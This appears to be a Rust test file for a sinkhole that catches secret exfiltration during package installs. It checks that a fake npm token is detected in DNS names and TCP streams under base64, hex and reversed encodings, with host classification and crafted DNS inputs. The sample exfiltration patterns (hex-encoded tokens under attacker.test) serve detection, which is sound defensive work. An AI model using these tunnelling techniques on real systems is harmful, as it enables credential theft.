//! Tests of the sinkhole's parsers, budgets, scanning and classification.

use super::*;

fn canary(v: &str) -> Canary {
    Canary {
        id: "npmrc-token".into(),
        value: v.into(),
    }
}

#[test]
fn canaries_are_found_through_encodings() {
    let c = [canary("npm_AbCdEf0123456789xyz")];
    let b64 = "bnBtX0FiQ2RFZjAxMjM0NTY3ODl4eXo="; // base64 of the canary
    let double = "Ym5CdFgwRmlRMlJGWmpBeE1qTTBOVFkzT0RsNGVYbz0="; // base64(base64)
    for payload in [
        "token=npm_AbCdEf0123456789xyz".to_string(),
        format!("{{\"d\":\"{b64}\"}}"),
        format!("data={double}"),
    ] {
        assert_eq!(canaries_in(payload.as_bytes(), &c).len(), 1, "{payload}");
    }
    assert!(canaries_in(b"nothing here", &c).is_empty());
    // Host names arrive lowercased; loot may be stored reversed.
    assert_eq!(
        canaries_in(b"npm_abcdef0123456789xyz.x.attacker.test", &c).len(),
        1
    );
    let reversed: Vec<u8> = b"t=npm_AbCdEf0123456789xyz".iter().rev().copied().collect();
    assert_eq!(canaries_in(&reversed, &c).len(), 1);
    // A truncated token still counts (16 characters or more of it).
    assert_eq!(canaries_in(b"x=AbCdEf0123456789", &c).len(), 1);
    assert!(canaries_in(b"x=AbCdEf01234", &c).is_empty());
    let hex: String = "npm_AbCdEf0123456789xyz"
        .bytes()
        .map(|b| format!("{b:02x}"))
        .collect();
    assert_eq!(
        canaries_in(format!("{hex}.x.attacker.test").as_bytes(), &c).len(),
        1
    );
}

#[test]
fn dns_query_round_trip() {
    let mut q = vec![0x12, 0x34, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0];
    for l in ["abc", "example", "com"] {
        q.push(u8::try_from(l.len()).unwrap());
        q.extend_from_slice(l.as_bytes());
    }
    q.extend_from_slice(&[0, 0, 1, 0, 1]);
    let (name, qtype, end) = parse_query(&q).unwrap();
    assert_eq!((name.as_str(), qtype, end), ("abc.example.com", 1, q.len()));
    let a = answer(&q, Some(Ipv4Addr::new(198, 18, 0, 1)));
    assert_eq!(a[7], 1);
    assert_eq!(&a[a.len() - 4..], &[198, 18, 0, 1]);
}

#[test]
fn hosts_are_classified() {
    assert_eq!(host_class("169.254.169.254").0, Severity::High);
    assert_eq!(host_class("abc.oastify.com").0, Severity::High);
    assert_eq!(host_class("github.com").0, Severity::Low);
    assert_eq!(host_class("api.github.com").0, Severity::Medium);
    assert_eq!(host_class("example.org").0, Severity::Low);
    assert_eq!(host_class("opencollective.com").0, Severity::Info);
    assert_eq!(
        sent_class(
            b"GET /x HTTP/1.1\r\nHost: a\r\n\r\n",
            Some("GET /x HTTP/1.1")
        ),
        None
    );
    assert_eq!(
        sent_class(
            b"POST /x HTTP/1.1\r\nHost: a\r\n\r\nhostname=box",
            Some("POST /x HTTP/1.1")
        )
        .map(|s| s.0),
        Some(Severity::Medium)
    );
    assert_eq!(sent_class(&[0x16, 3, 1, 0, 200, 1, 0, 0], None), None);
}

#[test]
fn connections_are_attributed_to_the_matching_connect() {
    let seen = |addr: &str, pid: u32, at: u64| Sighting {
        what: addr.into(),
        actor: Actor {
            pid,
            argv: vec![format!("p{pid}")],
        },
        at_unix_ms: at,
    };
    let connects = vec![
        seen("127.0.0.53:53", 4, 100),
        seen("198.18.0.1:443", 5, 110),
        seen("198.18.0.1:443", 6, 500),
        seen("198.18.0.2:80", 7, 120),
    ];
    let dst: SocketAddr = "198.18.0.1:443".parse().unwrap();
    let mut state = State::default();
    record_dns(&mut state, "x.attacker.test", 1, 101, BTreeSet::new());
    state.tcp.push(Conn {
        dst,
        head: b"GET / HTTP/1.1\r\nHost: x.attacker.test\r\n\r\n".to_vec(),
        total: 40,
        not_inspected: 0,
        hits: BTreeSet::new(),
        at: 111,
    });
    let f = classify(&state, &HashMap::new(), &[], &connects);
    let pids: Vec<Option<u32>> = f
        .iter()
        .map(|x| x.process.as_ref().map(|a| a.pid))
        .collect();
    assert_eq!(pids, vec![Some(4), Some(5)]);
    assert_eq!(f[1].at_unix_ms, Some(111));
}

/// A live sinkhole on loopback sockets, with the DNS and TCP addresses to reach it.
fn live(canaries: &[Canary]) -> (Sinkhole, SocketAddr, SocketAddr) {
    let udp = UdpSocket::bind("127.0.0.1:0").unwrap();
    let tcp = TcpListener::bind("127.0.0.1:0").unwrap();
    let (dns, http) = (udp.local_addr().unwrap(), tcp.local_addr().unwrap());
    let sockets = vec![
        (SinkSocket::Dns, OwnedFd::from(udp)),
        (SinkSocket::Tcp(http.port()), OwnedFd::from(tcp)),
    ];
    (Sinkhole::start_with(sockets, canaries), dns, http)
}

fn query(name: &str) -> Vec<u8> {
    let mut q = vec![0x12, 0x34, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0];
    for l in name.split('.') {
        q.push(u8::try_from(l.len()).unwrap());
        q.extend_from_slice(l.as_bytes());
    }
    q.extend_from_slice(&[0, 0, 1, 0, 1]);
    q
}

/// Queries that used to kill the DNS thread (a question cut short at the end of a full
/// buffer; a header alone; a pointer; an endless label chain) leave it serving: the next
/// query's exfiltration is still recorded.
#[test]
fn crafted_dns_queries_do_not_stop_the_dns_thread() {
    let c = [canary("npm_AbCdEf0123456789xyz")];
    let (hole, dns, _) = live(&c);
    let client = UdpSocket::bind("127.0.0.1:0").unwrap();
    client
        .set_read_timeout(Some(Duration::from_secs(2)))
        .unwrap();
    // The question ends in QTYPE without QCLASS, in the last bytes of a 1500-byte datagram
    // (the old buffer's size): the old parser sliced past its buffer.
    let mut cut = vec![0x12, 0x34, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0];
    while cut.len() < 1500 - 64 - 3 {
        cut.push(63);
        cut.extend_from_slice(&[b'a'; 63]);
    }
    cut.truncate(1500 - 3);
    let pad = 1500 - 3 - cut.len();
    if pad > 0 {
        cut.push(u8::try_from(pad - 1).unwrap());
        cut.extend(std::iter::repeat_n(b'b', pad - 1));
    }
    cut.extend_from_slice(&[0, 0, 1]);
    assert_eq!(parse_query(&cut), None);
    for crafted in [
        cut,
        vec![0u8; 12],
        vec![0, 0, 1, 0, 0, 1],
        [&query("a.test")[..12], &[0xC0, 0x0C, 0, 1, 0, 1]].concat(),
        vec![0xff; 4000],
    ] {
        client.send_to(&crafted, dns).unwrap();
    }
    let hex: String = "npm_AbCdEf0123456789xyz"
        .bytes()
        .map(|b| format!("{b:02x}"))
        .collect();
    client
        .send_to(&query(&format!("{hex}.1.x.attacker.test")), dns)
        .unwrap();
    let mut buf = [0u8; 512];
    let (n, _) = client
        .recv_from(&mut buf)
        .expect("the DNS thread still answers");
    assert!(n > 12);
    let f = hole.finish(&c, &[]);
    assert!(f.iter().any(|f| f.code == Code::DnsExfiltration), "{f:#?}");
}

/// Bytes after a complete HTTP request and after a pause, past the first 64 KiB, are read
/// and searched: a canary there is an exfiltration.
#[test]
fn the_whole_stream_is_searched_after_the_request_and_a_pause() {
    let c = [canary("npm_AbCdEf0123456789xyz")];
    let (hole, _, http) = live(&c);
    let mut s = TcpStream::connect(http).unwrap();
    s.write_all(b"GET /x HTTP/1.1\r\nHost: a.test\r\n\r\n")
        .unwrap();
    let mut reply = [0u8; 64];
    let n = s.read(&mut reply).unwrap();
    assert!(reply[..n].starts_with(b"HTTP/1.1 404"));
    std::thread::sleep(Duration::from_millis(700));
    s.write_all(&vec![b'.'; 200 << 10]).unwrap();
    // base64 of the canary, after 200 KiB of filler.
    s.write_all(b" bnBtX0FiQ2RFZjAxMjM0NTY3ODl4eXo= ").unwrap();
    drop(s);
    std::thread::sleep(Duration::from_millis(300));
    let f = hole.finish(&c, &[]);
    let exfil: Vec<&Finding> = f
        .iter()
        .filter(|f| f.code == Code::TcpExfiltration)
        .collect();
    assert_eq!(exfil.len(), 1, "{f:#?}");
    assert!(exfil[0].target.ends_with(&format!(":{}", http.port())));
}

/// Past the name budget, names are counted under their domain in one finding, and names
/// with a canary are still kept one by one.
#[test]
fn dns_names_past_the_budget_are_aggregated() {
    let mut state = State::default();
    for i in 0..(budget::DNS_NAMES + 1000) {
        record_dns(
            &mut state,
            &format!("n{i}.x.attacker.test"),
            1,
            5,
            BTreeSet::new(),
        );
    }
    record_dns(&mut state, "s.y.attacker.test", 1, 6, BTreeSet::from([0]));
    let c = [canary("npm_AbCdEf0123456789xyz")];
    let f = classify(&state, &HashMap::new(), &c, &[]);
    assert_eq!(f.len(), budget::DNS_NAMES + 2, "one finding for the rest");
    let more = f.iter().find(|f| f.target == "*.attacker.test").unwrap();
    assert!(more.summary.starts_with("1000 more DNS names"), "{more:?}");
    assert!(
        f.iter()
            .any(|f| f.target == "s.y.attacker.test" && f.code == Code::DnsExfiltration)
    );
}

/// The streaming search finds a canary wherever the stream is cut, in raw, hex or base64
/// form, behind megabytes of other data.
#[test]
fn streaming_search_crosses_segment_cuts() {
    let c = [canary("npm_AbCdEf0123456789xyz")];
    let m = Matcher::new(&c);
    for (pad, form) in [
        (65_530usize, "npm_AbCdEf0123456789xyz".to_string()),
        (65_500, "bnBtX0FiQ2RFZjAxMjM0NTY3ODl4eXo=".to_string()),
        (
            300_000,
            "6e706d5f4162436445663031323334353637383978797a".to_string(),
        ),
    ] {
        let mut data = vec![b'x'; pad];
        data.push(b' ');
        data.extend_from_slice(form.as_bytes());
        data.push(b'\n');
        for chunk in [1usize, 7, 4096, 65_536] {
            let mut scan = StreamScan::new(&m);
            for piece in data.chunks(chunk.max(data.len() / 64)) {
                scan.feed(piece);
            }
            assert_eq!(scan.finish(), BTreeSet::from([0]), "{pad} {form} {chunk}");
        }
    }
}

fn b64(data: &[u8]) -> String {
    const A: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for c in data.chunks(3) {
        let n = c.len();
        let v = (u32::from(c[0]) << 16)
            | (u32::from(*c.get(1).unwrap_or(&0)) << 8)
            | u32::from(*c.get(2).unwrap_or(&0));
        for k in 0..4 {
            if k <= n {
                out.push(char::from(A[((v >> (18 - 6 * k)) & 63) as usize]));
            } else {
                out.push('=');
            }
        }
    }
    out
}

/// One token far longer than a segment (the base64, and the base64 of the base64, of a
/// large file with the canary deep inside) is still decoded in full.
#[test]
fn a_giant_token_is_decoded_across_segments() {
    let c = [canary("npm_AbCdEf0123456789xyz")];
    let m = Matcher::new(&c);
    let mut file = Vec::new();
    for i in 0..20_000u32 {
        file.extend_from_slice(format!("line {i} of a big file\n").as_bytes());
    }
    let at = file.len() / 2 + 5;
    file.splice(at..at, b"token=npm_AbCdEf0123456789xyz\n".iter().copied());
    for token in [b64(&file), b64(b64(&file).as_bytes())] {
        assert!(token.len() > 4 * StreamScan::SEGMENT);
        let mut scan = StreamScan::new(&m);
        for piece in token.as_bytes().chunks(10_000) {
            scan.feed(piece);
        }
        assert_eq!(scan.finish(), BTreeSet::from([0]), "{}", token.len());
    }
}

mod props {
    use super::*;
    use proptest::prelude::*;

    fn bytes(max: usize) -> impl Strategy<Value = Vec<u8>> {
        proptest::collection::vec(any::<u8>(), 0..max)
    }

    fn label() -> impl Strategy<Value = String> {
        proptest::collection::vec(
            prop_oneof![Just(b'a'), Just(b'z'), Just(b'0'), Just(b'9'), Just(b'-')],
            1..63,
        )
        .prop_map(|b| String::from_utf8(b).unwrap())
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(256))]

        /// Any datagram: parsed or not, answered or not, never a panic; an answer starts
        /// with the question it answers.
        #[test]
        fn dns_parser_is_total(p in bytes(600)) {
            if let Some((_, qtype, qend)) = parse_query(&p) {
                prop_assert!(qend <= p.len());
                let ip = (qtype == 1).then(|| Ipv4Addr::new(198, 18, 0, 1));
                let a = answer(&p[..qend], ip);
                prop_assert_eq!(&a[12..qend], &p[12..qend]);
            }
            let _ = answer(&p, Some(Ipv4Addr::LOCALHOST));
        }

        /// A question built from labels parses back to the same name.
        #[test]
        fn dns_round_trip(labels in proptest::collection::vec(label(), 1..4)) {
            let name = labels.join(".");
            let q = query(&name);
            let (got, qtype, end) = parse_query(&q).unwrap();
            prop_assert_eq!((got, qtype, end), (name, 1, q.len()));
        }

        /// The HTTP and TLS sniffers and the SNI parser take anything.
        #[test]
        fn sniffers_are_total(mut p in bytes(400), head in 0usize..4) {
            let prefix: &[u8] = match head {
                0 => b"\x16\x03\x01\x00\x80\x01",
                1 => b"POST / HTTP/1.1\r\ncontent-length: 99999999999999999999999\r\n\r\n",
                2 => b"GET / HTTP/1.1\r\ncontent-length: 18446744073709551615\r\n\r\n",
                _ => b"",
            };
            p.splice(0..0, prefix.iter().copied());
            let _ = sni(&p);
            let _ = http_complete(&p);
            let _ = tls_record_complete(&p);
            let _ = sent_class(&p, Some("POST / HTTP/1.1"));
            let _ = printable(&p);
        }

        /// The decoders take any token; hex round-trips.
        #[test]
        fn decoders_are_total(p in bytes(200), raw in bytes(64)) {
            let s = String::from_utf8_lossy(&p);
            let _ = decode_hex(&s);
            let _ = decode_base32(&s);
            let _ = decode_base64(&s);
            let _ = expansions(&p);
            let hex: String = raw.iter().map(|b| format!("{b:02x}")).collect();
            if hex.len() >= 8 {
                prop_assert_eq!(decode_hex(&hex), Some(raw.clone()));
            }
            let b = b64(&raw);
            if b.trim_end_matches('=').len() >= 12 {
                let dec = decode_base64(&b).unwrap();
                prop_assert_eq!(&dec[..raw.len()], &raw[..]);
            }
        }

        /// A canary put anywhere in random bytes is found whole and through the stream
        /// search, however the stream is chunked.
        #[test]
        fn canary_search_finds_it_anywhere(
            before in bytes(3000), after in bytes(3000), chunk in 1usize..5000, form in 0usize..3
        ) {
            let c = [canary("npm_AbCdEf0123456789xyz")];
            let secret = match form {
                0 => "npm_AbCdEf0123456789xyz".to_string(),
                1 => b64(b"npm_AbCdEf0123456789xyz"),
                _ => "npm_AbCdEf0123456789xyz".bytes().map(|b| format!("{b:02x}")).collect(),
            };
            let mut data = before.clone();
            data.push(b'\n');
            data.extend_from_slice(secret.as_bytes());
            data.push(b'\n');
            data.extend_from_slice(&after);
            prop_assert_eq!(canaries_in(&data, &c).len(), 1);
            let m = Matcher::new(&c);
            let mut scan = StreamScan::new(&m);
            for piece in data.chunks(chunk) {
                scan.feed(piece);
            }
            prop_assert_eq!(scan.finish(), BTreeSet::from([0]));
        }
    }
}

/// A short hex label is an encoding only when it spells the machine's own name: `2024` (" $")
/// in a real name is not a tunnel; a two-letter hostname hex-encoded is.
#[test]
fn short_hex_labels_count_only_when_they_spell_the_hostname() {
    assert!(classify::decoded_labels("www.2024.example.test").is_empty());
    assert!(classify::decoded_labels("7777.example.test").is_empty());
    let host = nix::unistd::gethostname().unwrap().into_string().unwrap();
    let label: String = host.bytes().map(|b| format!("{b:02x}")).collect();
    let decoded = classify::decoded_labels(&format!("{label}.h.x.attacker.test"));
    assert_eq!(decoded, vec![host.clone()], "{label}");
}

/// Registry writes: publishes, unpublishes and tag changes to public registries, and login or
/// token requests to any registry's API; never reads, `npm audit`'s POST or other hosts.
#[test]
fn registry_writes_are_told_from_reads() {
    use super::classify::registry_write;
    assert_eq!(
        registry_write("PUT", "registry.npmjs.org", "/rf-victim"),
        Some("publish")
    );
    assert_eq!(
        registry_write("put", "Registry.NPMJS.org.", "/@s%2fx"),
        Some("publish")
    );
    assert_eq!(
        registry_write("DELETE", "registry.npmjs.org", "/x/-rev/1-abc"),
        Some("unpublish or tag removal")
    );
    assert_eq!(
        registry_write("PUT", "registry.npmjs.org", "/-/package/x/dist-tags/latest"),
        Some("dist-tag change")
    );
    assert_eq!(
        registry_write(
            "PUT",
            "npm.internal.example",
            "/-/user/org.couchdb.user:bob"
        ),
        Some("login or token management")
    );
    assert_eq!(
        registry_write("POST", "verdaccio.local", "/-/npm/v1/tokens"),
        Some("login or token management")
    );
    assert_eq!(registry_write("GET", "registry.npmjs.org", "/x"), None);
    assert_eq!(
        registry_write(
            "POST",
            "registry.npmjs.org",
            "/-/npm/v1/security/advisories/bulk"
        ),
        None
    );
    assert_eq!(registry_write("PUT", "example.com", "/upload"), None);
    assert_eq!(
        registry_write("PUT", "evilregistry.npmjs.org.example", "/x"),
        None
    );
}
